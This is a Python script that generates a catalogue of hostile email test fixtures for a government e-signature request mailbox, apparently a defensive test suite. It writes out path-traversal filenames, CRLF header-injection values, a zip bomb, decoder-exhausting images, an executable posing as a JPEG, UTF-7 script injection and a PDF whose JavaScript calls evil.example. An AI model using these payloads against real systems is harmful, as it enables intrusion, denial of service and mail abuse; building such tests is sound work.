#!/usr/bin/python3
"""Write the hostile-input catalogue (tests/hostile/cases.tsv) as a Maildir.

usage: hostile.py OUTDIR   -> OUTDIR/new/NN-NAME, one message per case of
kind "mail", then OUTDIR/new/zz-ordinary (an ordinary request after them),
and OUTDIR/truth.json (what the checker needs to know about the fixtures).
Each message's Message-ID is <NAME@hostile.test>, so a checker can find it.
Binary fixtures (images, PDFs, archives) are made here, never kept.
"""
import base64
import hashlib
import io
import json
import os
import random
import struct
import sys
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import genktp  # noqa: E402

out = sys.argv[1]
for d in ("new", "cur", "tmp"):
    os.makedirs(os.path.join(out, d), exist_ok=True)

FROM = "Uji Coba <uji.coba@pekalongankota.go.id>"


def head(name, extra="", ctype="text/plain; charset=utf-8", frm=FROM,
         subject="Permohonan TTE"):
    return ("From: %s\r\nTo: layanan.tte@pekalongankota.go.id\r\n"
            "Subject: %s\r\nMessage-ID: <%s@hostile.test>\r\n"
            "Date: Mon, 23 Nov 2026 09:00:00 +0700\r\nMIME-Version: 1.0\r\n"
            "%sContent-Type: %s\r\n\r\n" % (frm, subject, name, extra, ctype))


def att(b, name_hdr, data, ctype="application/octet-stream", enc=True):
    body = base64.encodebytes(data).decode().replace("\n", "\r\n") \
        if enc else data.decode("latin-1")
    return ("--%s\r\nContent-Type: %s\r\nContent-Disposition: attachment; "
            "%s\r\n%s\r\n%s\r\n" % (b, ctype, name_hdr,
                                    "Content-Transfer-Encoding: base64\r\n"
                                    if enc else "", body))


def mixed(name, parts, extra="", frm=FROM, subject="Permohonan TTE",
          close=True):
    b = "BOUNDARY"
    s = head(name, extra, 'multipart/mixed; boundary="%s"' % b, frm, subject)
    s += "--%s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" \
        "Nama : Uji Coba\r\nNIK : 3375011203850003\r\n\r\n" % b
    for p in parts:
        s += p
    if close:
        s += "--%s--\r\n" % b
    return s


def png(w, h):
    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def zipped(files, level=9):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED,
                         compresslevel=level) as z:
        for n, d in files:
            z.writestr(n, d)
    return bio.getvalue()


def seg(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


class Bits:
    """MSB-first bit writer for JPEG entropy-coded data (0xFF stuffed)."""

    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, v, n):
        for i in range(n - 1, -1, -1):
            self.acc = (self.acc << 1) | ((v >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xff:
                    self.out.append(0)
                self.acc, self.n = 0, 0

    def flush(self):
        while self.n:
            self.put(1, 1)
        return bytes(self.out)


def progressive_jpeg(w, h, scans):
    """A valid progressive JPEG (grey 128, three components) with one DC
    scan and `scans` AC scans, each a no-op run of end-of-band codes: a
    few bytes a scan, while a decoder walks every block of every scan."""
    nblk = ((w + 7) // 8) * ((h + 7) // 8)
    assert nblk % 16384 == 0
    comps = b"".join(bytes([c, 0x11, 0]) for c in (1, 2, 3))
    out = b"\xff\xd8" + seg(0xdb, b"\x00" + bytes([1] * 64))
    out += seg(0xc2, struct.pack(">BHHB", 8, h, w, 3) + comps)
    # DC table: '0' = difference 0; AC table: '0' = EOBRUN of 2^14 + bits.
    out += seg(0xc4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    out += seg(0xc4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0")
    out += seg(0xda, b"\x03" + b"".join(bytes([c, 0]) for c in (1, 2, 3)) +
               b"\x00\x00\x00")
    out += b"\x00" * (3 * nblk // 8)     # a '0' bit a block
    b = Bits()
    for _ in range(nblk // 16384):
        b.put(0, 15)
    ac = b.flush()
    for k in range(scans):
        out += seg(0xda, bytes([1, k % 3 + 1, 0x00, 1, 63, 0x00])) + ac
    return out + b"\xff\xd9"


def zipcrypto(files, password):
    """A ZIP whose members are encrypted with traditional PKWARE
    encryption (what "zip -e" writes); stored, not deflated."""
    def crc(k, c):
        return (zlib.crc32(bytes([c]), k ^ 0xffffffff) ^ 0xffffffff)

    local, central, off = b"", b"", 0
    for name, data in files:
        k = [0x12345678, 0x23456789, 0x34567890]

        def upd(c):
            k[0] = crc(k[0], c)
            k[1] = ((k[1] + (k[0] & 0xff)) * 134775813 + 1) & 0xffffffff
            k[2] = crc(k[2], k[1] >> 24)

        def enc(pt):
            o = bytearray()
            for c in pt:
                t = (k[2] | 2) & 0xffff
                o.append(c ^ (((t * (t ^ 1)) >> 8) & 0xff))
                upd(c)
            return bytes(o)

        for c in password:
            upd(c)
        c32 = zlib.crc32(data) & 0xffffffff
        body = enc(bytes(11) + bytes([c32 >> 24])) + enc(data)
        n = name.encode()
        hdr = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0, c32, len(body),
                          len(data), len(n), 0)
        local_h = b"PK\3\4" + hdr + n
        central += b"PK\1\2" + struct.pack("<H", 20) + hdr + \
            struct.pack("<HHHII", 0, 0, 0, 0, off) + n
        local += local_h + body
        off += len(local_h) + len(body)
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(files), len(files),
                                  len(central), off, 0)
    return local + central + end


def rawpdf(objs, root=1):
    """A PDF from object bodies (object i+1 is objs[i]), with its xref."""
    out, offs = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    return out + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n" \
        b"%%%%EOF\n" % (len(objs) + 1, root, x)


def text_pdf(lines, pages=1, mediabox=b"[0 0 595 842]", catalog=b""):
    """PDF whose pages all show the same lines of Helvetica text."""
    ops = b"BT /F1 14 Tf 72 760 Td 18 TL " + b" ".join(
        b"(%s) '" % ln.encode() for ln in lines) + b" ET"
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
            b"<< /Type /Pages /Count %d /MediaBox %s /Kids [%s] "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (
                pages, mediabox,
                b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n" % len(ops) + ops +
            b"\nendstream"]
    objs += [b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"] * pages
    return rawpdf(objs)


def ktp_card(seed):
    """A clean synthetic e-KTP (PIL image) and its truth (genktp.py)."""
    name, data, truth = genktp.make_one((seed, 1, "clean",
                                         genktp.DEFAULT_CSV))
    img = genktp.Image.open(io.BytesIO(data))
    img.load()
    return img.convert("RGB"), truth


def encode_img(img, fmt, **kw):
    bio = io.BytesIO()
    img.save(bio, fmt, **kw)
    return bio.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SP = text_pdf(["SURAT PERMOHONAN", "Penerbitan Sertifikat Elektronik"])
SK = text_pdf(["PETIKAN KEPUTUSAN WALI KOTA PEKALONGAN", "Jabatan"])
cases = {}

# MIME structure
s = head("deep-nesting", ctype='multipart/mixed; boundary="b0"')
for i in range(1, 4001):
    s += '--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' \
        % (i - 1, i)
cases["deep-nesting"] = s + "--b4000--\r\n"
# A million tiny parts (10 bytes each, about 10 MB: under PL_MAX_MSG).
cases["many-parts"] = head("many-parts",
                           ctype='multipart/mixed; boundary="p"') + \
    "--p\r\n\r\nx\r\n" * 1000000 + "--p--\r\n"
cases["huge-header-line"] = head("huge-header-line",
                                 "X-Junk: " + "a" * (200 << 10) + "\r\n") + \
    "hi\r\n"
cases["nul-in-header"] = head("nul-in-header",
                              "X-Bad: a\0b\r\n") + "hi\r\n"
cases["long-boundary"] = head("long-boundary",
                              ctype='multipart/mixed; boundary="%s"'
                              % ("x" * 200)) + "--%s--\r\n" % ("x" * 200)
cases["missing-final-boundary"] = mixed(
    "missing-final-boundary",
    [att("BOUNDARY", 'filename="Surat Permohonan.pdf"', PDF)], close=False)
cases["bad-base64"] = mixed("bad-base64", [
    "--BOUNDARY\r\nContent-Type: application/pdf\r\nContent-Disposition: "
    "attachment; filename=\"SK Jabatan.pdf\"\r\nContent-Transfer-Encoding: "
    "base64\r\n\r\n!!!*** not base64 ***===\r\n@@@@\r\n"])
# Names that try to leave the document directory
cases["rfc2231-traversal"] = mixed("rfc2231-traversal", [
    att("BOUNDARY", "filename*=UTF-8''%2e%2e%2f%2e%2e%2fetc%2fpasswd", PDF)])
cases["plain-traversal"] = mixed("plain-traversal", [
    att("BOUNDARY", 'filename="../../../tmp/evil.pdf"', PDF) +
    ""])
cases["content-id-traversal"] = mixed("content-id-traversal", [
    "--BOUNDARY\r\nContent-Type: image/png\r\nContent-ID: <../../x@y>\r\n"
    "Content-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.b64encode(png(10, 10)).decode() + "\r\n"])
# Archives
cases["zip-bomb"] = mixed("zip-bomb", [att(
    "BOUNDARY", 'filename="dokumen.zip"',
    zipped([("KTP.jpg", b"\0" * (50 << 20))]))])
cases["nested-zip"] = mixed("nested-zip", [att(
    "BOUNDARY", 'filename="dokumen.zip"',
    zipped([("inner.zip", zipped([("KTP.jpg", b"x")])),
            ("Surat Permohonan.pdf", PDF)]))])
# Header injection through decoded words into reply headers
cases["crlf-display-name"] = mixed(
    "crlf-display-name", [],
    frm="=?UTF-8?Q?Evil=0D=0ABcc:_victim@evil.example?= "
        "<uji.crlf@pekalongankota.go.id>",
    subject="=?UTF-8?Q?hi=0D=0ABcc:_victim@evil.example?=")
# Files that lie about what they are
cases["exec-as-jpeg"] = mixed("exec-as-jpeg", [att(
    "BOUNDARY", 'filename="KTP.jpg"', b"\x7fELF\x02\x01\x01" + b"\0" * 100,
    "image/jpeg")])
cases["png-60000"] = mixed("png-60000", [att(
    "BOUNDARY", 'filename="KTP.png"', png(60000, 60000), "image/png")])
cases["truncated-jpeg"] = mixed("truncated-jpeg", [att(
    "BOUNDARY", 'filename="KTP.jpg"', b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "image/jpeg")])
cases["gif-ktp"] = mixed("gif-ktp", [att(
    "BOUNDARY", 'filename="KTP.gif"', b"GIF89a" + b"\0" * 20, "image/gif")])
cases["noise-as-ktp"] = mixed("noise-as-ktp", [att(
    "BOUNDARY", 'filename="KTP.jpg"', bytes(random.Random(7).getrandbits(8)
                                         for _ in range(4096)), "image/jpeg")])
# Bodies
cases["html-deep"] = head("html-deep", ctype="text/html; charset=utf-8") + \
    "<div>" * 100000 + "Nama : Uji Dalam" + "</div>" * 100000 + "\r\n"
cases["utf7-meta"] = head("utf7-meta", ctype="text/html") + \
    '<meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-' \
    '</p><p>Nama : Uji Tujuh</p>\r\n'
cases["invalid-utf8"] = head("invalid-utf8") + \
    "Nama : Uji \udcff\udcfe Rusak\r\n".encode(
        "utf-8", "surrogateescape").decode("latin-1")
cases["utf16-body"] = head(
    "utf16-body", "Content-Transfer-Encoding: base64\r\n",
    "text/plain; charset=utf-16") + base64.encodebytes(
    "Nama : Uji Enambelas\r\nNIK : 3375011203850003\r\n".encode("utf-16")
).decode().replace("\n", "\r\n")
cases["own-address"] = head(
    "own-address", frm="Layanan TTE <layanan.tte@pekalongankota.go.id>") + \
    "loop\r\n"
cases["forged-id-subject"] = head(
    "forged-id-subject", frm="Orang Lain <orang.lain@pekalongankota.go.id>",
    subject="Re: [SE-2026-000001] tambahan") + "Nama : Orang Lain\r\n"

# CR/LF through decoded words and RFC 2231 into names and the subject
cases["crlf-subject"] = mixed(
    "crlf-subject", [], frm="Uji Subjek <uji.subjek@pekalongankota.go.id>",
    subject="=?UTF-8?Q?Permohonan_TTE=0D=0ABcc:_victim@evil.example=0D=0A"
            "X-Injected:_yes?=")
cases["crlf-filename"] = mixed("crlf-filename", [
    att("BOUNDARY", "filename*=UTF-8''KTP%0D%0ABcc%3A%20victim%40evil.example"
        "%0D%0AX-Injected%3A%20yes.gif", b"GIF89a" + b"\0" * 20,
        "image/gif"),
    att("BOUNDARY", 'filename="=?UTF-8?Q?SK=0D=0ABcc:_victim@evil.example'
        '=0D=0A.bmp?="', b"BM" + b"\0" * 60, "image/bmp")],
    frm="Uji Berkas <uji.berkas@pekalongankota.go.id>")
# An encrypted ZIP: the encrypted member is skipped, the other kept.
cases["encrypted-zip"] = mixed("encrypted-zip", [
    att("BOUNDARY", 'filename="dokumen.zip"',
        zipcrypto([("KTP.jpg", b"\xff\xd8\xff\xe0" + b"x" * 200),
                   ("SK Jabatan.pdf", PDF)], b"rahasia")),
    att("BOUNDARY", 'filename="Surat Permohonan.pdf"', SP)])
# Images: hundreds of scans, several pages, refused formats
cases["progressive-scans"] = mixed("progressive-scans", [att(
    "BOUNDARY", 'filename="KTP.jpg"', progressive_jpeg(2048, 2048, 600),
    "image/jpeg")])
card, card_truth = ktp_card(7)
blank = genktp.Image.new("RGB", card.size, (255, 255, 255))
cases["multipage-tiff"] = mixed("multipage-tiff", [att(
    "BOUNDARY", 'filename="KTP.tif"', encode_img(
        card, "TIFF", save_all=True, append_images=[blank, card.rotate(180)],
        compression="tiff_deflate"), "image/tiff")])
cases["bmp-ktp"] = mixed("bmp-ktp", [att(
    "BOUNDARY", 'filename="KTP.bmp"', encode_img(card, "BMP"), "image/bmp")])
# PDFs: 10,000 pages, a page of 200 x 200 inches, JavaScript
cases["pdf-10000-pages"] = mixed("pdf-10000-pages", [att(
    "BOUNDARY", 'filename="dokumen.pdf"',
    text_pdf(["SURAT PERMOHONAN", "Penerbitan Sertifikat Elektronik"],
             pages=10000), "application/pdf")])
cases["pdf-huge-mediabox"] = mixed("pdf-huge-mediabox", [
    att("BOUNDARY", 'filename="KTP.pdf"', text_pdf(
        [], mediabox=b"[0 0 14400 14400]"), "application/pdf"),
    att("BOUNDARY", 'filename="scan.pdf"', text_pdf(
        [], mediabox=b"[0 0 99999999999 99999999999]"), "application/pdf")])
cases["pdf-javascript"] = mixed("pdf-javascript", [att(
    "BOUNDARY", 'filename="dokumen.pdf"',
    text_pdf(["SURAT PERMOHONAN", "Penerbitan Sertifikat Elektronik"],
             catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL"
             b"\\('http://evil.example/x'\\); this.exportDataObject\\({cName:"
             b" 'a', nLaunch: 2}\\);) >> /AA << /WC << /S /JavaScript /JS "
             b"(app.alert\\(1\\)) >> >> "), "application/pdf")])

# After all hostile cases, in the same batch: an ordinary request.
ordinary = mixed("zz-ordinary", [
    att("BOUNDARY", 'filename="Surat Permohonan.pdf"', SP, "application/pdf"),
    att("BOUNDARY", 'filename="SK Jabatan.pdf"', SK, "application/pdf"),
    att("BOUNDARY", 'filename="KTP.jpg"', encode_img(
        ktp_card(8)[0], "JPEG", quality=92, progressive=True),
        "image/jpeg")],
    frm="Pemohon Biasa <pemohon.biasa@pekalongankota.go.id>",
    subject="Permohonan TTE Pemohon Biasa")

for i, (name, text) in enumerate(list(cases.items()) +
                              [("zz-ordinary", ordinary)]):
    data = text.encode("latin-1") if isinstance(text, str) else text
    fn = name if name.startswith("zz-") else "%02d-%s" % (i, name)
    with open(os.path.join(out, "new", fn), "wb") as f:
        f.write(data)
truth = {"cases": list(cases), "multipage-tiff": card_truth["fields"],
         "ordinary": {"Surat Permohonan.pdf": hashlib.sha256(SP).hexdigest(),
                      "SK Jabatan.pdf": hashlib.sha256(SK).hexdigest()}}
with open(os.path.join(out, "truth.json"), "w") as f:
    json.dump(truth, f)
